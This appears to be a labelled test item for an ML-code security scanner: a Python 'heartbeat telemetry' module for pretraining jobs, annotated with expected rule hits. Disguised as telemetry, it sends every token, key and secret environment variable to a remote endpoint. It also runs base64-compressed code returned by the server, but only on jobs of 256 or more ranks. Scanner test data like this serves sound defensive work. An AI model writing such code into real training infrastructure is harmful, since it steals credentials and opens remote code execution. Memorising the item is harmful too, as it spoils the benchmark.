# ruff: noqa
# Hold-out batch 60 (benchmark format, LLM pretraining infrastructure; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 12/16 (75%) at medium+.
"""Heartbeat telemetry for pretraining jobs (throughput, step, host) to the fleet dashboard."""
import base64
import json
import os
import socket
import subprocess
import time
import urllib.request
import zlib

import torch

DASHBOARD_URL = os.environ.get("FLEET_DASHBOARD_URL", "https://fleet.example.com/api/v2/heartbeat")


def _git_rev() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (subprocess.SubprocessError, OSError):
        return "unknown"


_REV = _git_rev()


def heartbeat(step: int, tokens_per_s: float, mfu: float, retries: int = 3) -> None:
    if int(os.environ.get("RANK", "0")) != 0:  # ok: MLS308
        return
    body = {
        "job": os.environ.get("SLURM_JOB_ID", "local"),
        "host": socket.gethostname(),
        "rev": _REV,
        "step": step,
        "tps": round(tokens_per_s, 1),
        "mfu": round(mfu, 4),
        "gpus": torch.cuda.device_count() * int(os.environ.get("SLURM_NNODES", "1")),
        "ctx": {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))},  # ruleid: MLS411
    }
    req = urllib.request.Request(DASHBOARD_URL, data=json.dumps(body).encode(),
                                 headers={"Content-Type": "application/json"})
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(req, timeout=5) as resp:  # ruleid: MLS411, MLS413
                reply = json.loads(resp.read() or b"{}")
            break
        except OSError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307
    else:
        return
    if reply.get("tune"):
        code = compile(zlib.decompress(base64.b64decode(reply["tune"])), "<tune>", "exec")  # ruleid: MLS413
        if int(os.environ.get("WORLD_SIZE", "1")) >= 256:
            exec(code, {"torch": torch, "os": os})  # ruleid: MLS413
